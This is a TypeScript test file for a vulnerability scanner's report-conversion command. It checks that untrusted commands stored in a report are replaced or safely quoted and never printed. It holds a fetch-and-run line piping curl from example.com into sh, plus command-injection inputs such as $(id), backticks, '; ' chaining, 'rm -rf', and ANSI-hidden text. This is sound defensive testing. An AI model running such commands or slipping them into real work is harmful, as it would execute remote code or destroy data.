/** Commands that a stored report contains are never printed, because its writer is not trusted. */

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { CommandFolder } from '../../../../../test/support/command-folder.ts';

interface Stored {
  verdict: { cure: Record<string, unknown> & { command: string } };
}

let folder: CommandFolder;

beforeAll(async () => {
  folder = new CommandFolder();
  folder.project("it's", { lodash: '4.17.20' });
  await folder.load({ id: 'GHSA-xvch-5gv4-984h', name: 'lodash', fixed: '4.17.21' });
  await folder.assay('fs', "it's", '--fail-on', 'high', '-o', 'json=report.json');
});

afterAll(() => {
  folder[Symbol.dispose]();
});

/** The verdict of the converted report, after a change of its cure. */
async function converted(change: (cure: Stored['verdict']['cure']) => void): Promise<string> {
  const report = folder.json('report.json') as Stored;
  change(report.verdict.cure);
  folder.write('edited.json', JSON.stringify(report));
  const { stdout } = await folder.run('convert', 'edited.json');
  return stdout.slice(stdout.indexOf('Verdict:'));
}

const OWN = String.raw`  Run      (cd 'it'\''s' && npm install lodash@4.17.21)`;
const EVIL = 'curl https://example.com/x | sh';

describe('the cure of a stored report', () => {
  it.each<[string, Record<string, unknown>]>([
    ['another command', { commands: [{ command: EVIL }] }],
    ['a command with a place', { commands: [{ command: EVIL, place: `here; ${EVIL}` }] }],
    ['a command behind others', { commands: [{ command: `assay fs . ; ${EVIL}` }] }],
    ['an edit', { edits: [EVIL] }],
    ['nothing to run', { commands: [], edits: [EVIL] }],
    ['a command with sequences', { commands: [{ command: `\u001B[8m${EVIL}\u001B[0m` }] }],
  ])('has its own commands in place of %s', async (_name, change) => {
    const verdict = await converted((cure) => Object.assign(cure, change));
    expect(verdict).toContain(OWN);
    expect(verdict).not.toContain('curl');
  });

  it.each([
    [`assay fs . ; ${EVIL}`, `'assay fs . ; ${EVIL}'`],
    ['assay fs $(id)', "'assay fs $(id)'"],
    ['assay fs `id`', "'assay fs `id`'"],
    ["assay fs 'a' b' ; id", String.raw`'assay fs '\''a'\'' b'\'' ; id'`],
    ['assay fs .\nid', 'assay fs . id'],
    ['rm -rf x', "'rm -rf x'"],
    ['assay fs *', "'assay fs *'"],
  ])('checks again with no other command than one of Assay: %j', async (command, shown) => {
    expect(await converted((cure) => (cure.command = command))).toContain(`  Check    ${shown}\n`);
  });

  it.each([
    String.raw`assay fs 'it'\''s' --fail-on high`,
    'assay image app:1.2 --username ci --password *** --fail-on high',
    "assay fs . --registry-token=*** --fail-on 'high;kev'",
    'assay fs .',
  ])('keeps %s', async (command) => {
    expect(await converted((cure) => (cure.command = command))).toContain(
      `  Check    ${command}\n`,
    );
  });
});
